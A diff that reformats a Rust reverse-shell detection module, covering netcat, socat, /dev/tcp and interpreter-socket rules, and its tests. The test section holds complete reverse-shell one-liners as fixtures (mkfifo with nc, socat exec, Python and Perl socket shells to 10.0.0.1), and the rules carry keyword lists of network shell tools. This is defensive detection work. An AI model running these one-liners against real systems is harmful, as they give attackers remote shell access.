@@ -64,14 +64,8 @@ const SHELL_CONNECT: Rule = Rule {
 const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat"];
 
 /// Interpreters and the flags that introduce inline code.
-const INTERPRETERS: &[(&str, &[&str])] = &[
-    ("python", &["-c"]),
-    ("perl", &["-e", "-E"]),
-    ("ruby", &["-e"]),
-    ("php", &["-r"]),
-    ("lua", &["-e"]),
-    ("node", &["-e", "--eval"]),
-];
+const INTERPRETERS: &[(&str, &[&str])] =
+    &[("python", &["-c"]), ("perl", &["-e", "-E"]), ("ruby", &["-e"]), ("php", &["-r"]), ("lua", &["-e"]), ("node", &["-e", "--eval"])];
 
 fn family(name: &str) -> &str {
     name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
@@ -86,7 +80,9 @@ impl ReverseShell {
         let name = exec.name();
         let cmd = exec.command_line();
         // The redirection onto /dev/tcp is the tell, whatever the shell is called.
-        if redirects_to_dev_net(&cmd) || ((contains_ci(&cmd, "/dev/tcp/") || contains_ci(&cmd, "/dev/udp/")) && (is_shell(name) || exec.argv.iter().any(|a| is_shell(basename(a))))) {
+        if redirects_to_dev_net(&cmd)
+            || ((contains_ci(&cmd, "/dev/tcp/") || contains_ci(&cmd, "/dev/udp/")) && (is_shell(name) || exec.argv.iter().any(|a| is_shell(basename(a)))))
+        {
             findings.report(&DEV_TCP, event, format!("{name} redirects a shell to a network socket")).evidence.push(("command_line".into(), cmd));
             return;
         }
@@ -94,12 +90,17 @@ impl ReverseShell {
             findings.report(&NETCAT_EXEC, event, format!("{name} runs a program on a network connection")).evidence.push(("command_line".into(), cmd));
             return;
         }
-        if is_shell(name) && contains_ci(&cmd, "mkfifo") && NETCATS.iter().any(|nc| has_word(&cmd, nc)) && SHELLS.iter().any(|s| has_word(&cmd, s) || contains_ci(&cmd, &format!("/{s} "))) {
+        if is_shell(name)
+            && contains_ci(&cmd, "mkfifo")
+            && NETCATS.iter().any(|nc| has_word(&cmd, nc))
+            && SHELLS.iter().any(|s| has_word(&cmd, s) || contains_ci(&cmd, &format!("/{s} ")))
+        {
             findings.report(&NETCAT_EXEC, event, "named pipe joining a shell and netcat").evidence.push(("command_line".into(), cmd));
             return;
         }
         if name == "socat" {
-            let net = exec.argv.iter().any(|a| starts_with_ci(a, "tcp") || starts_with_ci(a, "udp") || starts_with_ci(a, "ssl") || starts_with_ci(a, "openssl"));
+            let net =
+                exec.argv.iter().any(|a| starts_with_ci(a, "tcp") || starts_with_ci(a, "udp") || starts_with_ci(a, "ssl") || starts_with_ci(a, "openssl"));
             let run = exec.argv.iter().any(|a| starts_with_ci(a, "exec:") || starts_with_ci(a, "system:"));
             if net && run {
                 findings.report(&SOCAT_EXEC, event, "socat joins a network connection to a program").evidence.push(("command_line".into(), cmd));
@@ -116,9 +117,15 @@ impl ReverseShell {
                 return;
             };
             let socket = contains_any_ci(code, &["socket", "fsockopen", "tcpsocket", "net.connect", "io.popen"]);
-            let spawn = contains_any_ci(code, &["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "exec(", "subprocess", "popen", "system(", "spawn(", "child_process", "sh -i"]);
+            let spawn = contains_any_ci(
+                code,
+                &["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "exec(", "subprocess", "popen", "system(", "spawn(", "child_process", "sh -i"],
+            );
             if socket && spawn {
-                findings.report(&INTERPRETER_SOCKET, event, format!("{name} one-liner spawns a shell on a socket")).evidence.push(("code".into(), code.to_string()));
+                findings
+                    .report(&INTERPRETER_SOCKET, event, format!("{name} one-liner spawns a shell on a socket"))
+                    .evidence
+                    .push(("code".into(), code.to_string()));
             }
         }
     }
@@ -209,7 +216,11 @@ mod tests {
         assert_eq!(rule_of(&["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"]), vec![NETCAT_EXEC.id]);
         assert_eq!(rule_of(&["socat", "tcp:10.0.0.1:4444", "exec:/bin/bash,pty,stderr"]), vec![SOCAT_EXEC.id]);
         assert_eq!(
-            rule_of(&["python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/sh')"]),
+            rule_of(&[
+                "python3",
+                "-c",
+                "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/sh')"
+            ]),
             vec![INTERPRETER_SOCKET.id]
         );
         assert_eq!(rule_of(&["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton('10.0.0.1')));open(STDIN,'>&S');exec('/bin/sh -i');"]), vec![INTERPRETER_SOCKET.id]);
@@ -231,7 +242,8 @@ mod tests {
     #[test]
     fn shell_connecting_out() {
         let mut h = Harness::<ReverseShell>::new().unwrap();
-        let hits = h.run(&[connect("/usr/bin/bash", "203.0.113.7", 4444), connect("/usr/bin/curl", "203.0.113.7", 443), connect("/usr/bin/bash", "127.0.0.1", 8080)]);
+        let hits =
+            h.run(&[connect("/usr/bin/bash", "203.0.113.7", 4444), connect("/usr/bin/curl", "203.0.113.7", 443), connect("/usr/bin/bash", "127.0.0.1", 8080)]);
         assert_eq!(hits.len(), 1);
         assert_eq!(hits[0].rule_id, SHELL_CONNECT.id);
         assert!(hits[0].evidence.contains(&("remote".to_string(), "203.0.113.7:4444".to_string())));
